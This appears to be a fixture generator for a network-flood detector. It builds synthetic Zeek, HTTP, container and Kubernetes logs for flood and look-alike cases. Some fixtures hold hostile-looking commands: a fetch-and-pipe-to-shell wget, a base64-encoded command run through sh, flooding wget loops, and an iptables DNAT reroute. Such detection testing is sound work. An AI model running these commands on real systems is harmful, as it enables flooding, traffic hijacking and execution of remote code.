// Scenarios of floods and of what resembles one, for scripts/make-scenarios.mjs.
import { gzipSync } from 'node:zlib';

const FLOOD = 'T1498.001-direct-network-flood';
const [MINUTE, HOUR, DAY] = [60, 3600, 86_400];
const ZEEK_FIELDS = [
  ...['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'proto', 'duration', 'conn_state'],
  ...['orig_pkts', 'orig_ip_bytes', 'resp_pkts', 'resp_ip_bytes'],
];

/** What one connection looks like on the wire: packets and IP-level bytes, there and back. */
const KINDS = {
  /** A SYN nobody answers. */
  unanswered: { state: 'S0', out: [1, 44], back: [0, 0], seconds: 0 },
  /** Handshake, one byte, farewell. */
  empty: { state: 'SF', out: [5, 269], back: [3, 164], seconds: 0.002 },
  refused: { state: 'REJ', out: [1, 60], back: [1, 40], seconds: 0.0004 },
  /** A request of 120 bytes and an answer of 900. */
  request: { state: 'SF', out: [6, 436], back: [5, 1168], seconds: 0.02 },
  /** Log in, ask, get rows. */
  query: { state: 'SF', out: [11, 1300], back: [9, 3900], seconds: 0.03 },
  /** A line of text to which nothing comes back but acknowledgements. */
  line: { state: 'SF', out: [5, 520], back: [4, 208], seconds: 0.002 },
  /** A body of 1,200 bytes and a short answer. */
  hook: { state: 'SF', out: [10, 2400], back: [8, 1400], seconds: 0.1 },
  question: { proto: 'udp', state: 'SF', out: [1, 70], back: [1, 150], seconds: 0.001 },
  lost: { proto: 'udp', state: 'S0', out: [1, 70], back: [0, 0], seconds: 0 },
  burst: { proto: 'udp', state: 'S0', out: [40, 56_000], back: [0, 0], seconds: 0.01 },
  download: { state: 'SF', out: [11_000, 573_000], back: [41_500, 62_200_000], seconds: 9 },
};

const range = (count) => Array.from({ length: count }, (_unused, index) => index);
const inside = (host, net = 0) => `10.20.${net}.${host}`;
/** A service with a history: the same hour of each day before the last. */
const days = (count, stream) => range(count).map((day) => ({ ...stream, at: stream.at + day * DAY }));
/** Members that begin together on one target. */
const together = (first, count, perMinute) =>
  range(count).map((index) => ({
    ...{ at: 7, minutes: 4.8, perMinute, from: inside(first + index), to: '203.0.113.32' },
  }));

/** `at` is in seconds from nine o'clock of the first day; connections are evenly spread, a little unevenly each. */
const STREAMS = {
  'fires-on-syn-flood-between-containers': [
    { at: -600, minutes: 20, perMinute: 6, from: inside(21), to: inside(40), kind: 'request' },
    { at: 0, minutes: 1, perMinute: 2900, from: inside(22), to: inside(40), kind: 'unanswered' },
  ],
  'fires-on-spike-above-own-days': ((usual) => [
    ...days(5, { ...usual, at: HOUR, minutes: 4, perMinute: 45 }),
    { ...usual, at: 4 * DAY + 2 * HOUR, minutes: 1, perMinute: 1500 },
  ])({ from: inside(23), to: '203.0.113.20', port: 443, kind: 'request' }),
  'fires-on-slow-loop-of-a-new-container': [
    { at: 0, minutes: 5, perMinute: 118, from: inside(24), to: '203.0.113.30' },
  ],
  'fires-on-slow-growth-over-own-days': ((ends) => [
    ...days(3, { ...ends, at: 0, minutes: 60, perMinute: 8, kind: 'request' }),
    { ...ends, at: 2 * DAY + 720, minutes: 40, perMinute: 40 },
  ])({ from: inside(25), to: '203.0.113.31', port: 443 }),
  'fires-on-sprawl-of-silent-connections': together(30, 12, 50),
  'fires-on-slow-loop-at-a-new-target': [
    { at: 0, minutes: 60, perMinute: 1, from: inside(26), to: inside(6), port: 5432, kind: 'query' },
    { at: DAY, minutes: 5, perMinute: 118, from: inside(26), to: inside(45) },
  ],
  'fires-on-flood-of-a-target-asked-once': [
    { at: -700, minutes: 1, perMinute: 1, from: inside(27), to: '203.0.113.36', kind: 'request' },
    { at: 0, minutes: 1, perMinute: 2900, from: inside(27), to: '203.0.113.36', kind: 'unanswered' },
  ],
  'fires-on-datagrams-to-random-ports': range(1500).map((index) => ({
    ...{ at: index / 200, minutes: 1, perMinute: 1, from: inside(28), to: '203.0.113.37', kind: 'burst' },
    port: 1 + ((index * 7919) % 65_000),
  })),
  'fires-on-carpet-bombing': range(11).map((index) => ({
    ...{ at: 0, minutes: 1, perMinute: 305, from: inside(29), to: `203.0.113.${100 + index}` },
    kind: 'unanswered',
  })),
  'fires-on-flood-of-four-targets': range(4).map((index) => ({
    ...{ at: 0, minutes: 1, perMinute: 725, from: inside(31), to: `203.0.113.${120 + index}` },
    kind: 'unanswered',
  })),
  'fires-on-flood-of-three-new-targets': range(3).map((index) => ({
    ...{ at: 0, minutes: 1, perMinute: 420, from: inside(33), to: `203.0.113.${130 + index}` },
    kind: 'unanswered',
  })),
  'fires-on-carpet-bombing-below-the-floor': range(24).map((index) => ({
    ...{ at: 0, minutes: 1, perMinute: 200, from: inside(35), to: `203.0.113.${140 + index}` },
    kind: 'unanswered',
  })),
  // Over the floor at each of three, 4.2 floors in all; a finding of one kind of evidence takes 8.3.
  'misses-flood-of-three-targets-inside': range(3).map((index) => ({
    ...{ at: 0, minutes: 1, perMinute: 420, from: inside(33), to: inside(41 + index) },
    kind: 'unanswered',
  })),
  'misses-carpet-bombing-as-slow-as-who-waits': range(24).map((index) => ({
    ...{ at: 0, minutes: 1, perMinute: 64, from: inside(35), to: `203.0.113.${140 + index}` },
    kind: 'unanswered',
  })),
  'misses-bursts-with-pauses': range(40).map((index) => ({
    ...{ at: 30 * index, minutes: 0.01, perMinute: 1600, from: inside(36), to: '203.0.113.170' },
  })),
  'misses-a-flood-over-before-it-adds-up': [
    { at: 0, minutes: 1.9, perMinute: 236, from: inside(37), to: '203.0.113.171' },
  ],
  'misses-spike-of-fifteen-times-its-own-days': ((usual) => [
    ...days(5, { ...usual, at: HOUR, minutes: 4, perMinute: 45 }),
    { ...usual, at: 4 * DAY + 2 * HOUR, minutes: 1, perMinute: 700 },
  ])({ from: inside(38), to: '203.0.113.172', port: 443, kind: 'request' }),
  'misses-sprawl-of-which-nothing-else-is-known': range(5).map((index) => ({
    ...{ at: 0, minutes: 0.15, perMinute: 280, from: inside(130 + index), to: '203.0.113.173' },
  })),
  /** Two hundred ports of each of 24 hosts, most of them closed. */
  'quiet-scan-of-many-hosts': range(4800).map((index) => ({
    ...{ at: index / 85, minutes: 1, perMinute: 1, from: inside(65), port: 1 + Math.floor(index / 24) * 7 },
    to: `198.51.100.${100 + (index % 24)}`,
    kind: 'refused',
  })),
  'quiet-peers-that-are-gone': range(300).map((index) => ({
    ...{ at: 0, minutes: 1, perMinute: 12, from: inside(66), port: 6881, kind: 'unanswered' },
    to: `${['198.51.100', '203.0.113'][index % 2]}.${1 + Math.floor(index / 2)}`,
  })),
  'quiet-client-of-a-cluster-that-is-down': range(6).map((index) => ({
    ...{ at: 0, minutes: 2, perMinute: 110, from: inside(67), to: `203.0.113.${180 + index}`, port: 9092 },
    kind: 'refused',
  })),
  'quiet-outage-of-four-databases-beside-a-new-client': [
    ...range(4).flatMap((index) =>
      [
        ...[{ at: -40 * MINUTE, minutes: 40, perMinute: 4, kind: 'query' }],
        ...[{ at: 0, minutes: 1.5, perMinute: 900, kind: 'refused' }],
      ].map((stream) => ({ ...stream, from: inside(34), to: inside(11 + index), port: 5432 })),
    ),
    { at: 0, minutes: 1, perMinute: 310, from: inside(34), to: inside(15), port: 6379, kind: 'refused' },
  ],
  'quiet-checks-and-waiting-after-a-first-day': [
    ...[72, 74, 76].map((host) => ({
      ...{
        at: 0,
        minutes: 60,
        perMinute: 1,
        from: inside(host),
        to: inside(10, 2),
        port: 8080,
        kind: 'query',
      },
    })),
    // A new backend; one checked the day before, at another hour; a port that is not open yet.
    { at: DAY, minutes: 15, perMinute: 30, from: inside(72), to: inside(50, 2), port: 8080 },
    { at: 6 * HOUR, minutes: 5, perMinute: 30, from: inside(76), to: inside(52, 2), port: 8080 },
    { at: DAY, minutes: 15, perMinute: 30, from: inside(76), to: inside(52, 2), port: 8080 },
    { at: DAY, minutes: 12, perMinute: 59, from: inside(74), to: inside(51, 2), port: 5432, kind: 'refused' },
  ],
  'quiet-long-outage-of-a-known-database': [
    {
      at: -40 * MINUTE,
      minutes: 40,
      perMinute: 4,
      from: inside(77),
      to: inside(7),
      port: 5432,
      kind: 'query',
    },
    { at: 0, minutes: 10, perMinute: 90, from: inside(77), to: inside(7), port: 5432, kind: 'refused' },
  ],
  'quiet-outage-of-a-resolver': [
    {
      at: -40 * MINUTE,
      minutes: 40,
      perMinute: 4,
      from: inside(78),
      to: inside(9),
      port: 53,
      kind: 'question',
    },
    { at: 0, minutes: 1, perMinute: 2950, from: inside(78), to: inside(9), port: 53, kind: 'lost' },
  ],
  'quiet-services-waiting-for-one-database': range(8).map((index) => ({
    ...{ at: index / 20, minutes: 5, perMinute: 60, from: inside(110 + index), to: inside(7), port: 5432 },
    kind: 'refused',
  })),
  'quiet-webhooks-of-a-new-service': [
    { at: 0, minutes: 1, perMinute: 2600, from: inside(79), to: '203.0.113.60', port: 443, kind: 'hook' },
  ],
  'misses-slow-flood-of-a-known-target': [
    { at: -40 * MINUTE, minutes: 40, perMinute: 4, from: inside(86), to: '203.0.113.55', kind: 'request' },
    { at: 0, minutes: 10, perMinute: 120, from: inside(86), to: '203.0.113.55' },
  ],
  'misses-payload-nobody-answers': [
    { at: 0, minutes: 1, perMinute: 1500, from: inside(87), to: inside(9, 9), kind: 'line' },
  ],
  'misses-flood-over-the-turn-of-a-minute': [
    { at: 55, minutes: 1 / 6, perMinute: 3540, from: inside(88), to: '203.0.113.56', kind: 'unanswered' },
  ],
  'misses-sprawl-inside-as-slow-as-who-waits': range(6).map((index) => ({
    ...{ at: 0, minutes: 2, perMinute: 55, from: inside(120 + index), to: inside(46) },
  })),
  'quiet-deploy-with-updates': range(20).flatMap((index) =>
    [
      ...[{ at: 0, minutes: 0.8, perMinute: 25, to: inside(5), port: 8500, kind: 'request' }],
      ...[{ at: 5, minutes: 0.05, perMinute: 20, to: '203.0.113.80', port: 443, kind: 'download' }],
    ].map((stream) => ({ ...stream, from: inside(10 + index, 1) })),
  ),
  'quiet-nightly-spike': range(5).map((day) => ({
    ...{ at: day * DAY - 7 * HOUR + ((day * 217) % 600), minutes: 1.5, perMinute: day === 4 ? 950 : 800 },
    ...{ from: inside(70), to: '203.0.113.40', port: 443, kind: 'request' },
  })),
  'quiet-good-day-of-a-service': range(5).map((day) => ({
    ...{ at: day * DAY, minutes: 2, perMinute: day === 4 ? 560 : 200 },
    ...{ from: inside(69), to: '203.0.113.42', port: 443, kind: 'request' },
  })),
  'quiet-connection-churn-to-a-database': [
    { at: 0, minutes: 4, perMinute: 900, from: inside(71), to: inside(6), port: 5432, kind: 'query' },
  ],
  'quiet-health-checks-of-forty-backends': range(40).map((index) => ({
    ...{ at: index / 40, minutes: 3, perMinute: 30, from: inside(72), to: inside(10 + index, 2), port: 8080 },
  })),
  'quiet-crawler': range(500).map((index) => ({
    ...{ at: 0, minutes: 2, perMinute: 2.5, from: inside(73), port: 443 },
    to: `${['198.51.100', '203.0.113'][index % 2]}.${1 + ((index * 7) % 250)}`,
    kind: index % 9 === 0 ? 'unanswered' : 'request',
  })),
  'quiet-waiting-for-a-database': [
    { at: 0, minutes: 30, perMinute: 59, from: inside(74), to: '203.0.113.30' },
  ],
  'quiet-retries-below-the-floor': [
    { at: 0, minutes: 1, perMinute: 290, from: inside(75), to: inside(8), port: 6379, kind: 'refused' },
  ],
  'quiet-outage-of-a-known-database': range(6).flatMap((index) =>
    [
      ...[{ at: -40 * MINUTE, minutes: 40, perMinute: 4, kind: 'query' }],
      ...[{ at: 0, minutes: 1.5, perMinute: 400, kind: 'refused' }],
    ].map((stream) => ({ ...stream, from: inside(80 + index), to: inside(7), port: 5432 })),
  ),
  'misses-flood-as-slow-as-who-waits': [
    { at: 0, minutes: 30, perMinute: 64, from: inside(92), to: '203.0.113.30' },
  ],
  'misses-answered-requests-of-a-new-container': [
    { at: 0, minutes: 1, perMinute: 3000, from: inside(90), to: '203.0.113.50', kind: 'request' },
  ],
  'misses-forged-source-addresses': range(250).map((index) => ({
    ...{ at: index / 25, minutes: 1, perMinute: 6, from: `198.51.100.${1 + index}`, to: '203.0.113.51' },
    kind: 'unanswered',
  })),
  'misses-four-modest-workloads': together(95, 4, 60),
};

export function makeFloodScenarios(tools) {
  const { DAY_0, drawing, http, write, inspectOf, engineEvent, engineLines, containerUid, processText } =
    tools;
  const START = DAY_0 + 9 * HOUR;

  const rowsOf = (draw, { at, minutes, perMinute, from, to, port = 80, kind = 'empty' }) => {
    const { proto = 'tcp', state, out, back, seconds } = KINDS[kind];
    return range(Math.round(minutes * perMinute)).map((index) => [
      START + at + ((index + 0.8 * draw.random()) * MINUTE) / perMinute,
      ...[draw.uid().slice(0, 9), from, draw.port(), to, port, proto, seconds, state, ...out, ...back],
    ]);
  };
  /** Compressed where it is long. */
  const save = (scenario, name, text) => {
    if (text.length < 20_000) write(FLOOD, scenario, name, text);
    else write(FLOOD, scenario, `${name}.gz`, gzipSync(text, { level: 9 }));
  };
  const writeConn = (scenario, rows) => {
    const lines = rows.sort((a, b) => a[0] - b[0]).map(([ts, ...row]) => [ts.toFixed(3), ...row].join('\t'));
    const head = ['#separator \\x09', '#path\tconn', `#fields\t${ZEEK_FIELDS.join('\t')}`];
    save(scenario, 'conn.log', `${[...head, ...lines].join('\n')}\n`);
  };
  const writeStreams = (scenario, streams) => {
    const draw = drawing(scenario);
    writeConn(
      scenario,
      streams.flatMap((stream) => rowsOf(draw, stream)),
    );
  };
  /** inspect.json of containers, and the exec of one as an engine event. */
  const writeContainers = (scenario, containers, exec) => {
    const inspected = containers.map(({ capabilities = null, ...each }) => {
      const inspect = inspectOf(each);
      return { ...inspect, HostConfig: { ...inspect.HostConfig, CapAdd: capabilities } };
    });
    write(FLOOD, scenario, 'inspect.json', `${JSON.stringify(inspected)}\n`);
    if (!exec) return;
    const event = engineEvent(containers[0], `exec_create: ${exec.command}`, exec.at);
    write(FLOOD, scenario, 'engine-events.ndjson', engineLines([event]));
  };
  const container = (draw, values) => ({
    ...{ uid: containerUid(draw), image: 'registry.example/tools:1', labels: {}, startedAt: START - HOUR },
    command: ['sleep', 'infinity'],
    ...values,
  });

  /** Requests over four connections that stay open for two minutes, as http.log tells them. */
  const keepAlive = (scenario, { perMinute, uri, command }) => {
    const draw = drawing(scenario);
    const [from, to] = [inside(60), '203.0.113.33'];
    const connections = range(4).map((index) => ({
      ...{ uid: draw.uid(), 'id.orig_h': from, 'id.orig_p': 40_000 + index },
      ...{ 'id.resp_h': to, 'id.resp_p': 80 },
    }));
    const requests = range(perMinute * 2).map((index) =>
      http(
        { ...connections[index % 4], ts: START + (index * MINUTE) / perMinute },
        { method: 'GET', host: 'shop.example.net', uri: uri(index), sent: 0, received: 900, agent: '' },
      ),
    );
    save(scenario, 'http.log', requests.map((each) => `${JSON.stringify(each)}\n`).join(''));
    writeConn(
      scenario,
      connections.map((each) => [
        ...[START, each.uid, from, each['id.orig_p'], to, 80, 'tcp', 120, 'SF'],
        ...[perMinute, perMinute * 150, perMinute, perMinute * 400],
      ]),
    );
    if (command)
      writeContainers(scenario, [container(draw, { name: 'app9', ip: from })], { at: START - 2, command });
  };

  /** Each of twelve replicas stays below the floor; the workload does not. */
  const replicas = (scenario, count, stream) => {
    const draw = drawing(`${scenario} containers`);
    const labels = { 'com.docker.compose.project': 'shop', 'com.docker.compose.service': 'worker' };
    const containers = range(count).map((index) =>
      container(draw, { name: `shop-worker-${index + 1}`, ip: inside(10 + index, 3), labels }),
    );
    writeContainers(scenario, containers);
    writeStreams(
      scenario,
      containers.map(({ ip }) => ({ ...stream, from: ip })),
    );
  };

  /** A busy service without a history, which its engine asks for its health every 30 seconds. */
  const healthCheck = () => {
    const scenario = 'quiet-health-check-by-exec';
    const checked = container(drawing(`${scenario} container`), { name: 'cart', ip: inside(63) });
    writeContainers(scenario, [checked]);
    const command = 'exec_create: /bin/sh -c curl -f http://localhost/healthz';
    const events = range(12).map((index) => engineEvent(checked, command, START - 300 + index * 30.04));
    write(FLOOD, scenario, 'engine-events.ndjson', engineLines(events));
    const ends = { from: inside(63), to: inside(7), port: 6379, kind: 'request' };
    writeStreams(scenario, [{ ...ends, at: 0, minutes: 1, perMinute: 1600 }]);
  };

  /** What a container's own processes run, and how that container may touch the network. */
  const rerouted = (scenario, name, hostConfig, commands) => {
    const each = container(drawing(`${scenario} container`), { name, ip: inside(64) });
    const inspect = inspectOf(each);
    const inspected = { ...inspect, HostConfig: { ...inspect.HostConfig, ...hostConfig } };
    write(FLOOD, scenario, 'inspect.json', `${JSON.stringify([inspected])}\n`);
    write(
      FLOOD,
      scenario,
      'process.ndjson',
      processText(
        each,
        commands.map((command, index) => [START + index, command]),
      ),
    );
  };

  /** A pod whose only command is a loop of requests. */
  const kubectlRun = (scenario, perMinute) => {
    const command = ['sh', '-c', 'while true; do wget -q -O /dev/null http://203.0.113.34/; done'];
    const time = new Date((START - 3) * 1000).toISOString();
    const audit = {
      ...{ kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Request', verb: 'create' },
      ...{ auditID: '00000000-0000-4000-8000-0000000000f1', stage: 'ResponseComplete' },
      requestURI: '/api/v1/namespaces/default/pods',
      user: { username: 'alice@example.com' },
      sourceIPs: ['192.0.2.7'],
      objectRef: { resource: 'pods', namespace: 'default', name: 'web-test', apiVersion: 'v1' },
      responseStatus: { code: 201 },
      ...{ requestReceivedTimestamp: time, stageTimestamp: time },
      requestObject: {
        kind: 'Pod',
        metadata: { name: 'web-test', namespace: 'default' },
        spec: { containers: [{ name: 'web-test', image: 'busybox:1', command }] },
      },
    };
    write(FLOOD, scenario, 'audit.ndjson', `${JSON.stringify(audit)}\n`);
    const labels = { 'io.kubernetes.pod.name': 'web-test', 'io.kubernetes.pod.namespace': 'default' };
    const pod = { name: 'k8s_web-test', ip: inside(61), labels, startedAt: START - 2, command };
    writeContainers(scenario, [container(drawing(`${scenario} pod`), pod)]);
    const ends = { from: inside(61), to: '203.0.113.34', kind: 'request' };
    writeStreams(scenario, [{ ...ends, at: 0, minutes: 1.5, perMinute }]);
  };

  /** Somebody enters a container and runs a loop; connections go to several targets in turn. */
  const loop = (scenario, { script, targets, perMinute, kind }) => {
    const entered = container(drawing(`${scenario} container`), { name: 'app7', ip: inside(68) });
    writeContainers(scenario, [entered], { at: START - 2, command: `sh -c ${script}` });
    const ends = { from: inside(68), minutes: 1, perMinute, kind };
    writeStreams(
      scenario,
      targets.map((to) => ({ ...ends, at: 0, to })),
    );
  };

  const meshSidecar = () => {
    const scenario = 'quiet-mesh-sidecar';
    const command =
      'sh -c iptables -t nat -N PROXY_REDIRECT; iptables -t nat -A PROXY_REDIRECT -p tcp -j REDIRECT --to-ports 15001; iptables -t nat -A OUTPUT -p tcp -j PROXY_REDIRECT; ip route show';
    const sidecar = { name: 'mesh-init', ip: inside(62), capabilities: ['NET_ADMIN'] };
    writeContainers(scenario, [container(drawing(`${scenario} container`), sidecar)], {
      ...{ at: START - 2, command },
    });
    const ends = { from: inside(62), to: '203.0.113.41', port: 443, kind: 'request' };
    writeStreams(scenario, [{ ...ends, at: 0, minutes: 3, perMinute: 40 }]);
  };

  /** One flow of packets nobody answers, or of pings that come back: [protocol, port, seconds, packets, bytes each, answered]. */
  const flow = (from, to, [proto, port, seconds, packets, bytes, isAnswered]) => [
    ...[START, 'Conlyflow', from, proto === 'icmp' ? 8 : 40_123, to, port, proto, seconds],
    ...[isAnswered ? 'SF' : 'S0', packets, packets * bytes],
    ...(isAnswered ? [packets, packets * bytes] : [0, 0]),
  ];

  for (const [scenario, streams] of Object.entries(STREAMS)) writeStreams(scenario, streams);
  for (const make of [meshSidecar, healthCheck]) make();
  kubectlRun('fires-on-kubectl-run-loop', 900);
  kubectlRun('misses-a-loop-of-answered-requests-below-the-ceiling', 450);
  const shops = range(4).map((index) => `203.0.113.${190 + index}`);
  loop('fires-on-a-loop-that-names-four-targets', {
    ...{ targets: shops, perMinute: 100, kind: 'request' },
    script: 'while :; do for i in 1 2 3 4; do wget -q -O /dev/null http://shop$i.example.net/; done; done',
  });
  loop('misses-a-loop-with-pauses-over-four-targets', {
    ...{ targets: shops, perMinute: 60, kind: 'request' },
    script:
      'while :; do for i in 1 2 3 4; do wget -q -O /dev/null http://shop$i.example.net/; done; sleep 0.8; done',
  });
  loop('quiet-loop-of-checks-in-a-crawler', {
    ...{ perMinute: 5, kind: 'request' },
    targets: range(200).map((index) => `198.51.100.${1 + index}`),
    script: 'for i in 1 2 3 4 5 6; do wget -q -O /dev/null http://node$i.example.net/healthz; done',
  });
  replicas('fires-on-replicas-that-add-up', 12, { at: 30, minutes: 1, perMinute: 250, to: '203.0.113.35' });
  replicas('quiet-replicas-that-check-a-backend', 3, {
    at: 0,
    minutes: 15,
    perMinute: 30,
    to: inside(50, 2),
  });
  rerouted('quiet-docker-in-docker', 'runner-dind', { Privileged: true }, [
    'iptables --wait -t nat -I POSTROUTING -s 172.18.0.0/16 ! -o docker0 -j MASQUERADE',
    'iptables --wait -I FORWARD -i docker0 ! -o docker0 -j ACCEPT',
  ]);
  rerouted('misses-rerouting-by-an-image', 'net-tools', { CapAdd: ['NET_ADMIN'], NetworkMode: 'host' }, [
    'iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination 203.0.113.9',
  ]);
  keepAlive('fires-on-keep-alive-request-flood', {
    ...{ perMinute: 1200, uri: () => '/search' },
    command: 'wrk -t4 -c4 -d120s http://shop.example.net/search',
  });
  keepAlive('quiet-page-loads-over-kept-connections', {
    ...{ perMinute: 400, uri: (index) => `/page/${Math.floor(index / 30)}/${index % 30}.js` },
  });
  keepAlive('misses-requests-below-the-ceiling', { perMinute: 550, uri: () => '/search' });
  keepAlive('misses-requests-over-the-ceiling-alone', { perMinute: 1200, uri: () => '/search' });
  // Metrics by UDP, 5,500 a minute; pings, 5,800 a minute.
  writeConn('quiet-datagrams-below-the-floors', [
    flow(inside(93), '203.0.113.53', ['udp', 8125, 600, 55_000, 120, false]),
    flow(inside(94), '203.0.113.54', ['icmp', 0, 600, 58_000, 84, true]),
  ]);
  // A thousand metrics a second from one socket, on the first day.
  writeConn('quiet-metrics-of-a-first-day', [
    flow(inside(97), inside(20), ['udp', 8125, 600, 600_000, 100, false]),
  ]);
  // A UDP flood of one socket and a flood of pings: the table is not polled, and an entry ends half a minute later.
  write(
    ...[FLOOD, 'misses-one-socket-whose-end-is-not-told', 'conntrack-events.txt'],
    [
      ['udp      17 30', 'sport=40123 dport=9999', 'sport=9999 dport=40123'],
      ['icmp     1 30', 'type=8 code=0 id=77', 'type=0 code=0 id=77'],
    ]
      .map(([kind, there, back], index) => {
        const [from, to] = [inside(69), `203.0.113.${195 + index}`];
        return `[${START + index}.500000]\t    [NEW] ipv4     2 ${kind} src=${from} dst=${to} ${there} [UNREPLIED] src=${to} dst=192.0.2.1 ${back} id=${9_000_001 + index}\n`;
      })
      .join(''),
  );
  const route = Buffer.from('ip route replace default via 10.20.0.9').toString('base64');
  for (const [scenario, script] of [
    ['fires-on-rerouting-by-an-encoded-command', `echo ${route} | base64 -d | sh`],
    ['misses-rerouting-in-a-hidden-command', 'wget -q -O - http://10.20.0.9/setup | sh'],
  ]) {
    const entered = container(drawing(`${scenario} container`), {
      ...{ name: 'net-tools', ip: inside(64), capabilities: ['NET_ADMIN'] },
    });
    writeContainers(scenario, [entered], { at: START, command: `sh -c ${script}` });
  }
  // 60,000 packets in twenty seconds of ten hours.
  writeConn('misses-flood-inside-a-long-lived-flow', [
    flow(inside(91), '203.0.113.52', ['udp', 9999, 10 * HOUR, 66_000, 148, false]),
  ]);
}
